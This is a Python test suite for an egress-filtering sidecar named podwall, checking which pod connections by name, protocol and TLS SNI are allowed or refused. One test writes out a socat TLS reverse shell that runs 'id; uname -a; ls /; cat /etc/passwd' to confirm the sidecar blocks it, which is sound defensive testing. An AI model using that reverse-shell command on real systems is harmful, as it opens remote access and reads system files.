"""What may leave a pod: real clients in a network namespace whose connections nftables redirects to the sidecar, real
servers behind it.

    tests/.venv/bin/python tests/egress.py target/release/podwall

One line per check: `ok NAME`, `FAIL NAME: why`, `SKIPPED NAME: why`. Exit code 1 when one failed. Needs root: everything
happens in network namespaces that it makes and removes itself.
"""

import shutil
import sys
from functools import partial
from pathlib import Path

from clients_kit.checks import Failed, Skipped, expect, main
from clients_kit.programs import until
from egress_kit.world import OTHER, PATH, WEB, check_all


def page(done):
    expect("answer", (done.returncode, done.stdout), (0, "the page\n\n200"))


def refused(world, done, **wanted):
    """The client got nothing, and the record says why."""
    if done.returncode == 0:
        raise Failed(f"answered with {done.stdout}")
    return world.sidecar.recorded(**wanted)


def by_name(world):
    page(world.curl("http://web.example/"))


def by_alias(world):
    page(world.curl("http://alias.example/"))


def by_short_name(world):
    """The search list makes catalog.shop a name of the cluster; the request says the short one."""
    page(world.curl("http://catalog.shop/"))


def other_method(world):
    done = world.curl("-X", "DELETE", "http://web.example/")
    expect("status", done.stdout[-3:], "403")
    world.sidecar.recorded(reason="policy-no-rule", action="DELETE", resource="http://web.example/")


def other_host(world):
    """The address of a granted name, asked for another name."""
    done = world.curl("-H", "Host: denied.example", "http://web.example/")
    expect("status", done.stdout[-3:], "403")
    world.sidecar.recorded(reason="policy-no-rule", resource="http://denied.example/")


def not_granted(world):
    done = world.curl("http://denied.example:8080/")
    refused(world, done, reason="policy-no-rule", to=f"{WEB}:8080")


def raw_address(world):
    done = world.curl(f"http://{OTHER}:8080/")
    line = refused(world, done, reason="egress-no-name", to=f"{OTHER}:8080")
    expect("resource", line["resource"], f"tcp://{OTHER}:8080")


def tls(world):
    done = world.curl("--cacert", world.authority, "https://secure.example/")
    expect("status", (done.returncode, done.stdout[-3:]), (0, "200"))


def tls_other_name(world, name, reason):
    done = world.curl("--cacert", world.authority, "--connect-to", f"{name}:443:secure.example:443", f"https://{name}/")
    refused(world, done, reason=reason, original=name)
    if "alert" not in done.stderr:
        raise Failed(f"no alert: {done.stderr}")


def tls_without_name(world):
    words = ["openssl", "s_client", "-connect", "secure.example:443", "-noservername"]
    done = world.in_pod(*words, input="")
    if "access denied" not in done.stderr:
        raise Failed(f"no alert: {done.stderr}")
    world.sidecar.recorded(reason="egress-tls-nameless")


def tls_other_offer(world):
    done = world.in_pod("openssl", "s_client", "-connect", "secure.example:443", "-servername", "secure.example",
                        "-alpn", "postgresql", input="")
    expect("denied", "access denied" in done.stderr, True)
    world.sidecar.recorded(reason="egress-protocol", detail="tls on a port granted to https")


SHELL = "EXEC:sh -c 'id; uname -a; ls /; cat /etc/passwd'"


def tls_shell(world):
    """A reverse shell over TLS, which is not opened here, fails by the name that led to it, or that it says."""
    heard, keys = world.folder / "shell.heard", world.folder / "keys"
    options = f"bind={OTHER},reuseaddr,fork,verify=0,cert={keys / 'cert.pem'},key={keys / 'key.pem'}"
    world.start("shells", program("socat"), "-u", f"OPENSSL-LISTEN:8443,{options}", f"OPEN:{heard},creat,append")
    world.listening(OTHER, 8443)
    world.in_far(program("socat"), "-t", "2", SHELL, f"OPENSSL:{OTHER}:8443,verify=0")
    until("the listener hears a shell where nothing is in between", lambda: heard.exists() and heard.read_text(), 10)
    heard.write_text("")
    for target, reason in (
        (f"OPENSSL:{OTHER}:8443,verify=0", "egress-no-name"),
        ("OPENSSL:login.example:8443,verify=0", "policy-no-rule"),
        ("OPENSSL:secure.example:443,verify=0,nosni", "egress-tls-nameless"),
        ("OPENSSL:secure.example:443,verify=0,snihost=stranger.example", "egress-tls-name"),
    ):
        done = world.in_pod(program("socat"), "-t", "2", SHELL, target)
        refused(world, done, reason=reason)
    expect("heard", heard.read_text(), "")


def program(name):
    found = shutil.which(name, path=PATH)
    if found is None:
        raise Skipped(f"no {name}")
    return found


def ssh(world, host, port):
    """What an SSH client gets to know: it goes no further than the server's key."""
    options = ["-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
               "-o", "ConnectTimeout=10", "-p", port, f"nobody@{host}", "true"]
    return world.in_pod(program("ssh"), *options)


def sshd(world):
    """One server at the port granted to ssh, and at one that is granted to http."""
    key = world.folder / "host_key"
    world.in_far("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", key)
    Path("/run/sshd").mkdir(exist_ok=True)
    words = [program("sshd"), "-D", "-e", "-f", "/dev/null", "-o", f"HostKey={key}", "-o", "PidFile=none"]
    for address, port in ((OTHER, 22), (WEB, 2222)):
        world.start(f"sshd-{port}", *words, "-o", f"ListenAddress={address}:{port}")
        world.listening(address, port)


def ssh_granted(world):
    sshd(world)
    done = ssh(world, "login.example", 22)
    if "Permission denied" not in done.stderr:
        raise Failed(f"did not come to the login: {done.stderr}")


def ssh_on_http(world):
    done = ssh(world, "web.example", 2222)
    if "Permission denied" in done.stderr:
        raise Failed("it came to the login")
    line = world.sidecar.recorded(reason="egress-protocol", to=f"{WEB}:2222")
    expect("detail", line["detail"], "ssh on a port granted to http")


def postgres_on_http(world):
    startup = bytes([0, 0, 0, 8, 4, 210, 22, 47])  # SSLRequest
    world.python(SAY.format(host="web.example", port=2222, pieces=[startup]))
    line = world.sidecar.recorded(reason="egress-protocol", to=f"{WEB}:2222", protocol="postgres")
    expect("detail", line["detail"], "postgres on a port granted to http")


def server_first(world):
    """Nobody waits for the other: the client says nothing before it is greeted, and gives up after 20 seconds."""
    mailbox = ["msmtpd", f"--interface={OTHER}", "--port=25", "--command=cat > /dev/null; true"]
    world.start("msmtpd", program("msmtpd"), *mailbox[1:])
    world.listening(OTHER, 25)
    code = """
import smtplib
mail = smtplib.SMTP('mail.example', 25, timeout=20)
print(mail.ehlo('pod.example')[0], mail.sendmail('a@example', ['b@example'], 'Subject: x\\n\\nhello'))
mail.quit()
"""
    expect("talk", world.python(code).stdout.strip(), "250 {}")


TALK = """
import socket, sys
server = socket.create_server(({address!r}, {port}))
while True:
    client, _ = server.accept()
    while data := client.recv(65536):
        client.sendall(data.upper())
    client.sendall(b"THE END")
    client.close()
"""
SAY = """
import socket, sys
client = socket.create_connection(({host!r}, {port}), 10)
client.settimeout(10)
try:
    for piece in {pieces!r}:
        client.sendall(piece)
    client.shutdown(socket.SHUT_WR)
    heard = b""
    while data := client.recv(65536):
        heard += data
    print(heard)
except OSError as error:
    print(type(error).__name__)
"""


def raw(world, port=7000):
    """Bytes of nobody's protocol, both ways, with one side's end passed on."""
    world.start("talker", sys.executable, "-c", TALK.format(address=OTHER, port=port))
    world.listening(OTHER, port)
    said = world.python(SAY.format(host="raw.example", port=port, pieces=[b"\x01hello ", b"there"]))
    expect("answer", said.stdout.strip(), repr(b"\x01HELLO THERETHE END"))


def http_on_tcp(world):
    """A port that is granted to raw TCP carries no HTTP, whole or byte by byte."""
    for pieces in ([b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"], [b"GET ", b"/ HT", b"TP/1.1\r\n", b"Host: x\r\n\r\n"]):
        said = world.python(SAY.format(host="raw.example", port=7000, pieces=pieces))
        if b"THE END" in said.stdout.encode():
            raise Failed(f"answered: {said.stdout}")
    world.sidecar.recorded(reason="egress-protocol", detail="http1 on a port granted to tcp")


def by_address(world):
    """An address that is granted needs no name."""
    world.start("by-address", sys.executable, "-c", TALK.format(address=OTHER, port=7001))
    world.listening(OTHER, 7001)
    said = world.python(SAY.format(host=OTHER, port=7001, pieces=[b"\x01a"]))
    expect("answer", said.stdout.strip(), repr(b"\x01ATHE END"))


def what_left(world):
    """The record answers what left the pod, and what did not."""
    world.sidecar.recorded(line="flow", name="login.example")
    world.sidecar.recorded(line="flow", name="raw.example")
    done = world.in_pod(world.folder / "podwall", "log", "egress", world.sidecar.record, "--since", "1h")
    expect("code", (done.returncode, done.stderr), (0, ""))
    rows = [line.split() for line in done.stdout.splitlines()]
    for wanted in (["secure.example", f"{WEB}:443", "tls"], ["login.example", f"{OTHER}:22", "ssh"],
                   ["web.example", f"{WEB}:80", "http1"], ["mail.example", f"{OTHER}:25", "smtp"]):
        if not any(row[: len(wanted)] == wanted for row in rows):
            raise Failed(f"no {wanted} in {done.stdout}")
    for wanted in ("egress-no-name", "egress-protocol", f"tcp://{OTHER}:8080"):
        if wanted not in done.stdout:
            raise Failed(f"no {wanted} in {done.stdout}")


def after_restart(world):
    """Nothing is kept: the address that led somewhere is a raw one until it is looked up again."""
    address = world.python("import socket; print(socket.gethostbyname('web.example'))").stdout.strip()
    expect("address", address, WEB)
    page(world.curl("-H", "Host: web.example", f"http://{address}/"))
    world.restart()
    done = world.curl("-H", "Host: web.example", f"http://{address}/")
    refused(world, done, reason="egress-no-name", to=f"{WEB}:80")
    page(world.curl("http://web.example/"))


CHECKS = [
    ("http by name", by_name),
    ("http by alias", by_alias),
    ("http by short name", by_short_name),
    ("http: other method", other_method),
    ("http: other host on a granted address", other_host),
    ("name that is not granted on the port", not_granted),
    ("raw address", raw_address),
    ("tls by name", tls),
    ("tls: name that led nowhere", tls_other_name, "stranger.example", "egress-tls-name"),
    ("tls: name that is not granted", tls_other_name, "denied.example", "policy-no-rule"),
    ("tls: no name", tls_without_name),
    ("tls: other offer", tls_other_offer),
    ("tls: reverse shell", tls_shell),
    ("ssh where it is granted", ssh_granted),
    ("ssh on a port granted to http", ssh_on_http),
    ("postgres on a port granted to http", postgres_on_http),
    ("server that speaks first", server_first),
    ("raw bytes", raw),
    ("http on a port granted to tcp", http_on_tcp),
    ("granted address", by_address),
    ("what left the pod", what_left),
    ("restart", after_restart),
]


if __name__ == "__main__":
    main(__doc__, "egress", partial(check_all, CHECKS))
